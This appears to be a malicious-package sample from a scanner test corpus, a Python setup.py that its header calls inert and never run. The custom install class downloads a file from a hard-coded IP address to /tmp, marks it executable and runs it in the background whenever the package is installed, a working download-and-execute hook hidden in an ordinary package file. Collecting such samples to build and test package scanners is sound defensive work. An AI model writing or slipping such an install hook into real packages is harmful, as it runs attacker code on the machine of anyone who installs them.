# pkgguard corpus 113 (install-hook), modelled on [bertus]; inert, never run.
import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        urllib.request.urlretrieve("http://100.64.120.1/svc", "/tmp/svc")
        os.chmod("/tmp/svc", 0o755)
        os.system("/tmp/svc &")
        install.run(self)


setup(name="pkg", version="2.0", cmdclass={"install": CustomInstall})
